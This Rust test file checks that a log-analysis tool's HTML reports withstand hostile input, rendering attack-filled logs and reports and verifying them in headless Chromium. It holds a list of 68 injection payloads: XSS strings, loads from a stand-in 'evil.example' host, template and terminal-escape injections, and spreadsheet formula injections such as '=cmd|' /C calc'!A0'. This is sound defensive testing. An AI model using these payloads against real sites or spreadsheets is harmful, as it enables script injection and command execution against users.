//! The report for a browser, opened in one.
//!
//! What a page does shows only in a browser: that no script but its own runs, that nothing is asked of any network,
//! that filters filter and a keyboard suffices. The reports are made here, of an ordinary log, of logs and saved reports
//! that are made of attacks, of ten thousand findings and of none; `browser/check.mjs` opens them in headless Chromium and
//! holds every claim. Where there is no Chromium, Node or package of `browser/`, this says so and does nothing, unless
//! `KEYTRACE_BROWSER=1` asks for it.
//!
//! By hand: `npm ci` in `tests/browser`, then `cargo test -p keytrace-tests browser`. With `KEYTRACE_SCREENSHOTS` set to a
//! folder, pictures of the pages are left there, and `claims.txt` with the figures.

use std::path::{Path, PathBuf};
use std::process::Command;
use std::{env, fs};

use report::{Document, Look, RENDERERS, document};
use serde_json::Value;

use crate::logs::{self, Hit, Writing};
use crate::program::{keytrace, parsed, root, skipped};

/// Names the folder for pictures and figures.
const SHOTS: &str = "KEYTRACE_SCREENSHOTS";

/// What browsers have been made to obey, each with the mark that it ran, `owned`; and what misleads readers and sheets.
const ATTACKS: [&str; 68] = [
    "<script>owned=1</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "</script><script>owned=1</script>",
    "</ScRiPt ><script>owned=1</script>",
    "<!--<script>owned=1</script>",
    "--><script>owned=1</script>",
    "<!--",
    "<![CDATA[<script>owned=1</script>]]>",
    "]]><script>owned=1</script>",
    "<img src=x onerror=owned=1>",
    "<img src=https://evil.example/p.gif>",
    "\"><img src=x onerror=owned=1>",
    "'><img src=x onerror=owned=1>",
    "\" onmouseover=\"owned=1",
    "' onfocus='owned=1' autofocus='",
    "` onload=owned=1 `",
    " onerror=owned=1 ",
    "\"autofocus onfocus=owned=1 x=\"",
    "<svg onload=owned=1>",
    "<svg><script>owned=1</script></svg>",
    "<svg><animate onbegin=owned=1 attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=owned=1>",
    "<iframe src=javascript:parent.owned=1>",
    "<iframe srcdoc=\"<script>parent.owned=1</script>\">",
    "<object data=javascript:owned=1>",
    "<embed src=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example/)}</style>",
    "</style><script>owned=1</script>",
    "</title><script>owned=1</script>",
    "<title>owned</title>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/>",
    "<form action=https://evil.example/><input type=submit autofocus>",
    "<a href=javascript:owned=1>x</a>",
    "javascript:owned=1",
    "data:text/html,<script>owned=1</script>",
    "<details open ontoggle=owned=1>",
    "<video><source onerror=owned=1>",
    "<body onload=owned=1>",
    "<marquee onstart=owned=1>",
    "<template><script>owned=1</script></template>",
    "<noscript><img src=x onerror=owned=1></noscript>",
    "<plaintext>",
    "<textarea><script>owned=1</script>",
    "<select><option><script>owned=1</script>",
    "<x contenteditable onblur=owned=1>",
    "<portal src=https://evil.example/>",
    "&lt;script&gt;owned=1&lt;/script&gt;",
    "&#60;script&#62;owned=1&#60;/script&#62;",
    "\\u003cscript\\u003eowned=1\\u003c/script\\u003e",
    "\\x3cscript\\x3eowned=1\\x3c/script\\x3e",
    "${owned=1}{{owned=1}}<%= owned=1 %>#{owned=1}",
    "{{constructor.constructor('owned=1')()}}",
    "\",\"x\":owned=1,\"y\":\"",
    "\\\",owned=1,\\\"",
    "'};owned=1;{'",
    "\u{2028}owned=1\u{2029}",
    "\u{202e}gpj.exe\u{202c}\u{2066}x\u{2069}",
    "a\u{200b}\u{200c}\u{200d}\u{feff}\u{2060}b\u{e0041}\u{fe0f}",
    "\x1b[2J\x1b[31m\x1b]0;owned\x07",
    "\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\",
    "\u{9b}31m\x08\x7f\x0b\x0c",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1+cmd",
    "-2+3+cmd|' /C calc'!A0",
    "＝HYPERLINK(\"https://evil.example/\")",
];

/// A log whose every field holds an attack: JSON carries all of them whole.
fn attacked() -> String {
    let mut log = String::new();
    for (number, attack) in ATTACKS.iter().enumerate() {
        for (place, reach) in logs::REACHES.iter().enumerate().filter(|(place, _)| place % 6 == number % 6) {
            let seconds = (number * 97 + place * 7) as u64;
            let target = format!("{reach}{attack}");
            let mut hit = Hit::new(seconds, attack, &target, if place % 2 == 0 { 200 } else { 404 }, 900);
            hit.referer = format!("{attack}{attack}");
            hit.agent = (*attack).to_owned();
            log += &(logs::line(&hit, Writing::NginxJson) + "\n");
        }
    }
    let huge = format!("/.env?{}", "<b>\"'&".repeat(2_000));
    log += &(logs::line(&Hit::new(9, "=1", &huge, 200, 900), Writing::NginxJson) + "\n");
    log
}

/// Bytes that are no UTF-8, in every field that may hold some.
fn not_utf8() -> Vec<u8> {
    let mut log = Vec::new();
    for (number, reach) in logs::REACHES.iter().enumerate() {
        let mut hit = Hit::new(number as u64, "198.51.100.7", &format!("{reach}BYTES"), 200, 900);
        hit.agent.push_str("BYTES");
        for (place, part) in logs::line(&hit, Writing::Combined).split("BYTES").enumerate() {
            log.extend_from_slice(if 0 < place {
                b"\xff\xfe\xc0\xaf\xed\xa0\x80<script>owned=1</script>"
            } else {
                b""
            });
            log.extend_from_slice(part.as_bytes());
        }
        log.push(b'\n');
    }
    log
}

/// A saved report in which every text that is not one of our own words is an attack.
fn attacked_rows(rows: &[Value]) -> String {
    const OURS: [&str; 14] = [
        "type",
        "severity",
        "confidence",
        "stage",
        "outcome",
        "role",
        "time",
        "first",
        "last",
        "since",
        "until",
        "first_seen",
        "last_seen",
        "is_complete",
    ];
    fn spoil(value: &mut Value, key: &str, attack: &str) {
        match value {
            Value::String(text) if key == "id" || key == "incident" => *text = format!("{attack}{text}"),
            Value::String(text) if !OURS.contains(&key) => *text = format!("{attack}{text}{attack}"),
            Value::Array(items) => items.iter_mut().for_each(|item| spoil(item, key, attack)),
            Value::Object(map) => map.iter_mut().for_each(|(key, value)| spoil(value, key, attack)),
            _ => {}
        }
    }
    let mut ids = std::collections::HashMap::new();
    let mut out = String::new();
    for (place, row) in rows.iter().filter(|row| row["type"] != "end").enumerate() {
        let mut row = row.clone();
        // A row names its incident as that is called now.
        let of = row["incident"].as_str().and_then(|id| ids.get(id)).cloned();
        let id = row["id"].as_str().map(str::to_owned);
        let attack = ATTACKS[place % ATTACKS.len()];
        let more = (row["type"] == "more").then(|| (row["of"].clone(), row["key"].clone()));
        spoil(&mut row, "", attack);
        if let Some((of, key)) = more {
            (row["of"], row["key"]) = (of, key);
        }
        match (row["type"].as_str(), of, id) {
            (Some("finding" | "impact"), Some(of), _) => row["incident"] = of,
            (Some("incident"), _, Some(id)) => {
                // One is called as a part of the page is, to be taken for it.
                if ids.is_empty() {
                    row["id"] = "data".into();
                }
                ids.insert(id, row["id"].clone());
            }
            _ => {}
        }
        out += &(row.to_string() + "\n");
    }
    out
}

/// A document of so many findings in so many incidents, no two alike, as of a long attack on a large site.
fn large(rows: &str, findings: usize, incidents: usize) -> Document {
    let small = document::read(rows.as_bytes()).expect("it was just written");
    let mut large = Document { scan: small.scan.clone(), stories: Vec::new() };
    for place in 0..incidents {
        let mut story = small.stories[place % small.stories.len()].clone();
        let patterns = std::mem::take(&mut story.findings);
        story.incident.id = format!("KT-{place:010x}");
        story.incident.rank = place as u32 + 1;
        for number in 0..findings / incidents {
            let mut finding = patterns[number % patterns.len()].clone();
            finding.id = format!("{place:06x}{number:06x}");
            finding.incident.clone_from(&story.incident.id);
            let target = finding.request.target.get_or_insert_default();
            let known = String::from_utf8(target.to_bytes()).expect("texts of a report are UTF-8");
            *target = format!("{known}&page={number}&session={place:032x}").into();
            finding.request.client = Some(format!("198.{}.{}.{}", place % 200, number % 250, number % 7).into());
            finding.request.agent =
                Some(format!("Mozilla/5.0 (X11; Linux x86_64; rv:{place}.{number}) Gecko/20100101").into());
            finding.source.line = (place * 1_000 + number) as u64;
            finding.source.sha256 = format!("{place:032x}{number:032x}");
            story.findings.push(finding);
        }
        story.incident.findings = story.findings.len() as u64;
        large.stories.push(story);
    }
    large.scan.totals.findings = findings as u64;
    large.scan.totals.incidents = incidents;
    large
}

/// Writes a document as the page it makes.
fn write_page(document: &Document, path: &Path) {
    let form = RENDERERS.iter().find(|form| form.name() == "html").expect("there is a form for browsers");
    let mut out = Vec::new();
    form.render(document, Look::default(), &mut out).expect("memory can be written");
    fs::write(path, out).expect("the page is written");
}

fn ndjson(path: &Path) -> String {
    let run = keytrace(["scan".as_ref(), "--output-format".as_ref(), "ndjson".as_ref(), path.as_os_str()]);
    run.text().to_owned()
}

/// Makes all reports in a folder.
fn make_reports(folder: &Path) {
    let logs = folder.join("logs");
    fs::create_dir(&logs).expect("a folder");
    let shop = root().join("../shared/corpora/labelled/shop/access.log.gz");
    let plain = if shop.is_file() { shop } else { root().join("samples") };
    let rows = ndjson(&plain);
    write_page(&document::read(rows.as_bytes()).expect("it was just written"), &folder.join("plain.html"));
    fs::write(logs.join("<img src=x onerror=owned=1>.log"), attacked()).expect("a log");
    fs::write(logs.join("'\"><svg onload=owned=1>.log"), not_utf8()).expect("a log");
    fs::write(logs.join("<b onclick=owned=1>.gz"), b"\x1f\x8b\x08").expect("a log");
    let hostile = ndjson(&logs);
    write_page(&document::read(hostile.as_bytes()).expect("it was just written"), &folder.join("hostile.html"));
    let spoilt = attacked_rows(&parsed(&rows));
    write_page(&document::read(spoilt.as_bytes()).expect("a report of attacks is one"), &folder.join("document.html"));
    write_page(&large(&ndjson(&root().join("samples")), 10_000, 250), &folder.join("large.html"));
    let quiet = logs.join("quiet.log");
    fs::write(&quiet, logs::line(&Hit::new(1, "192.0.2.1", "/", 200, 9), Writing::Combined) + "\n").expect("a log");
    write_page(&document::read(ndjson(&quiet).as_bytes()).expect("it was just written"), &folder.join("empty.html"));
}

#[test]
fn a_page_is_bounded_however_much_was_found() {
    let rows = ndjson(&root().join("samples"));
    let mut document = large(&rows, 30_000, 6_000);
    for (place, story) in document.stories.iter_mut().enumerate() {
        for (number, finding) in story.findings.iter_mut().enumerate() {
            finding.request.target = Some(format!("/{place}/{number}/{}", "<&\"".repeat(1_300)).into());
            finding.request.referer = Some(format!("{place}.{number}{}", "<>".repeat(2_000)).into());
        }
        story.incident.title = format!("{place}{}", "<".repeat(300)).into();
        let floors: Vec<u64> = (0..250).collect();
        let route =
            |_| document::RouteSizes { route: "/".repeat(9).into(), floors: floors.clone(), answers: floors.clone() };
        story.incident.routes = (0..8).map(route).collect();
    }
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("page.html");
    write_page(&document, &path);
    let page = fs::read_to_string(&path).unwrap();
    assert!(page.len() < 8 << 20, "{} bytes", page.len());
    let said = ["more incidents stand in the list above", "more: all are in the NDJSON report", "\"routes\":null"];
    said.iter().for_each(|said| assert!(page.contains(said), "{said}"));
    let left_out = page.rsplit_once("\"left_out\":").expect("it is told").1;
    let left_out: u64 = left_out.split('}').next().unwrap().parse().unwrap();
    assert!(10_000 < left_out && left_out < 30_000, "{left_out}");
}

/// The browser, where there is one.
fn chromium() -> Option<PathBuf> {
    let folders = env::var_os("PATH")?;
    let names = ["chromium", "chromium-browser", "google-chrome"];
    env::split_paths(&folders).flat_map(|folder| names.map(|name| folder.join(name))).find(|path| path.is_file())
}

fn has_node() -> bool {
    Command::new("node").arg("--version").output().is_ok_and(|done| done.status.success())
}

#[test]
fn a_report_holds_its_claims_in_a_browser() {
    let scripts = root().join("tests/browser");
    let has_packages = scripts.join("node_modules/playwright-core").is_dir();
    let (Some(chromium), true, true) = (chromium(), has_node(), has_packages) else {
        assert!(env::var_os("KEYTRACE_BROWSER").is_none_or(|value| value != "1"), "a browser was asked for");
        skipped("no Chromium, no Node, or no packages in tests/browser (npm ci)");
        return;
    };
    let folder = tempfile::tempdir().unwrap();
    make_reports(folder.path());
    let mut command = Command::new("node");
    command.arg(scripts.join("check.mjs")).arg(chromium).arg(folder.path()).args(env::var_os(SHOTS));
    let done = command.output().expect("Node runs");
    let (out, error) = (String::from_utf8_lossy(&done.stdout), String::from_utf8_lossy(&done.stderr));
    if let Some(shots) = env::var_os(SHOTS) {
        fs::write(Path::new(&shots).join("claims.txt"), &*out).expect("the folder is there");
    }
    assert!(done.status.success(), "{out}{error}");
    assert!(out.contains("ok - no incident is a report too"), "all claims were tried: {out}");
}
